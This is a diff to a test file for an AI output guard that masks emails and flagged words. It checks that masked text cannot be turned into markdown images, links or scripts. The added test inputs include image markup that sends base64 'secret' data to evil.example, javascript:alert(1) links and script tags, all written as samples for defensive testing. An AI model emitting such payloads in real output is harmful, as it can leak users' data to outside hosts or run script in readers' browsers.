@@ -25,6 +25,30 @@ const hidden = [
   `[x\u200b]: ${evil}\n\nThere it is: ![a][x].`,
 ];
 
+const data = "c2VjcmV0".repeat(10);
+
+/** What would be, once something in it has another thing in its place. */
+const joining = [
+  `!a@b.io(${evil})`,
+  "!a@b.io(//evil.example/a.png)",
+  "!heron(//evil.example/a.png)",
+  "!<script>(//evil.example/a.png)",
+  `!![a](https://evil.example/x.png)(${evil})`,
+  `!!!![a](https://evil.example/x.png)(${evil})`,
+  `!<img src="https://evil.example/x.png">(${evil})`,
+  `!a@b.io\n\nThere it is.\n\n[EMAIL]: ${evil}`,
+  `[EMAIL]: ${evil}\n\nThere it is: !a@b.io it is.`,
+  `[x]: a.png\n\n![EMAIL] and\n\na@b.io: ${evil}`,
+  `[picture withheld]: ${evil}\n\n![x]![a](https://evil.example/x.png)`,
+  `![a](https://evil.example/x.png)(//evil.example/?q=${data})`,
+  "![a](https://evil.example/x.png)(javascript:alert(1))",
+  '<img src="https://evil.example/x.png">(javascript:alert(1))',
+  '<img src="https://evil.example/x.png">: javascript:alert(1)',
+  "<script>(javascript:alert(1))",
+  "<script>: javascript:alert(1)",
+  "a@b.io(javascript:alert(1))",
+];
+
 describe("an answer on its way through its guards", function () {
   this.timeout(60_000);
 
@@ -35,6 +59,17 @@ describe("an answer on its way through its guards", function () {
         const out = (await throughGate(cut(text, lengths), output)).left.join("");
         expect(out, `${JSON.stringify(text)}\n${out}`).to.not.match(
           /<img|!\[[^\]]*\]\(https|<script|\[x\]: https[\s\S]*!\[a\]\[x\]|!\[a\]\[x\][\s\S]*\[x\]: https/u,
+        );
+      }
+  });
+
+  it("makes no picture, link or script of what is put in the place of something", async () => {
+    const { output } = await testGates({ output: { topics: [{ label: "MERGER", words: ["heron"], action: "mask" }] } });
+    for (const text of joining)
+      for (const lengths of [[1], [2], [7], [400]]) {
+        const out = (await throughGate(cut(text, lengths), output)).left.join("");
+        expect(out, `${text}\n${out}`).to.not.match(
+          /!\[[^\]]*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script/u,
         );
       }
   });
